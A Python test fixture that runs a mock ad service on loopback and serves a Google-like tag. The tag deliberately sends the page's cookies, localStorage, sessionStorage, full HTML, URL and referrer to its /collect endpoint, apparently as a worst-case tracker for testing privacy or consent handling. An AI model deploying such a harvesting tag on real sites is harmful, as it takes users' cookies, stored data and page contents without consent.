"""An advertising service on this machine that takes whatever it can get and forgets nothing.

It serves a tag that behaves as Google's does towards a page (commands in `dataLayer`, consent states, its
cookie), and sends home more than Google's would: address, referrer, title, cookies, storage, the whole page.
So a value that is not in its record could not have been taken.
"""

import json
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

TAG = """
(() => {
  const layer = window.dataLayer;
  const home = new URL(document.currentScript.src).origin;
  const consent = {};
  const configs = {};
  const isGranted = (kind) => consent[kind] !== "denied";

  function setCookie(config) {
    if (!isGranted("ad_storage") || config.conversion_linker === false) return;
    const named = config.cookie_domain ?? location.hostname;
    const domain = named === "none" ? "" : `; domain=${named}`;
    const flags = config.cookie_flags ? `; ${config.cookie_flags}` : "";
    const age = config.cookie_expires ?? 90 * 24 * 3600;
    document.cookie = `_gcl_au=1.1.${Date.now()}; path=/; max-age=${age}${domain}${flags}`;
  }

  function tell(kind, name, fields) {
    const body = JSON.stringify({
      kind, name, fields, consent,
      location: location.href,
      referrer: document.referrer,
      title: document.title,
      cookies: document.cookie,
      storage: { ...localStorage, ...sessionStorage },
      text: document.documentElement.outerHTML,
      layer: layer.map((entry) => [...entry]),
    });
    fetch(`${home}/collect`, { method: "POST", mode: "no-cors", credentials: "include", body });
  }

  function obey([command, ...rest]) {
    if (command === "consent") Object.assign(consent, rest[1]);
    if (command === "config") {
      configs[rest[0]] = rest[1] ?? {};
      setCookie(configs[rest[0]]);
      if (configs[rest[0]].send_page_view !== false) tell("config", "page_view", {});
    }
    // Without consent Google's tag sends "cookieless pings"; a page in basic mode must never come to that.
    if (command === "event") tell(isGranted("ad_storage") ? "event" : "ping", rest[0], rest[1]);
  }

  layer.forEach((entry) => obey([...entry]));
  const push = layer.push.bind(layer);
  layer.push = (entry) => { push(entry); obey([...entry]); };
})();
"""


@dataclass(frozen=True)
class Request:
    """One request as it arrived."""

    method: str
    path: str
    headers: dict[str, str]
    body: bytes

    @property
    def data(self) -> Any:
        """The body, read as JSON."""
        return json.loads(self.body)


@dataclass
class AdService:
    """Where it answers, the file it writes every byte to, and what it has received."""

    origin: str
    file: Path
    requests: list[Request] = field(default_factory=list)

    def received(self, path: str) -> list[Request]:
        """The requests below a path that carried something."""
        return [asked for asked in self.requests if asked.path.startswith(path) and asked.method == "POST"]

    def record(self, asked: Request) -> None:
        """Keep a request, in memory and in the file."""
        self.requests.append(asked)
        with self.file.open("ab") as file:
            file.write(
                f"{asked.method} {asked.path}\n{json.dumps(asked.headers)}\n".encode() + asked.body + b"\n"
            )


@contextmanager
def running(folder: Path) -> Iterator[AdService]:
    """A service on a free port of the loopback address."""
    server = ThreadingHTTPServer(("127.0.0.1", 0), _Handler)
    service = AdService(f"http://127.0.0.1:{server.server_port}", folder / "ad-service.txt")
    service.file.touch()
    server.service = service  # type: ignore[attr-defined]  # the handler finds its server, and so the record
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield service
    server.shutdown()
    server.server_close()
    thread.join()


class _Handler(BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        self._record()
        self._answer(200, TAG.encode(), "text/javascript")

    def do_POST(self) -> None:
        self._record()
        self._answer(204, b"", "text/plain")

    def do_OPTIONS(self) -> None:
        self._record()
        self._answer(204, b"", "text/plain")

    def _record(self) -> None:
        body = self.rfile.read(int(self.headers.get("Content-Length", 0)))
        self._service.record(Request(self.command, self.path, dict(self.headers.items()), body))

    def _answer(self, status: int, body: bytes, kind: str) -> None:
        self.send_response(status)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(body)))
        self.send_header("Access-Control-Allow-Origin", self.headers.get("Origin", "*"))
        self.send_header("Access-Control-Allow-Credentials", "true")
        self.send_header("Access-Control-Allow-Headers", "Content-Type")
        self.send_header("Set-Cookie", "ad_service_id=recognised; Max-Age=86400; Path=/")
        self.end_headers()
        self.wfile.write(body)

    @property
    def _service(self) -> AdService:
        service: AdService = self.server.service  # type: ignore[attr-defined]  # set by `running`
        return service

    def log_message(self, format: str, *args: object) -> None:  # noqa: A002 - the name is http.server's
        """Say nothing on the terminal; the record has it."""
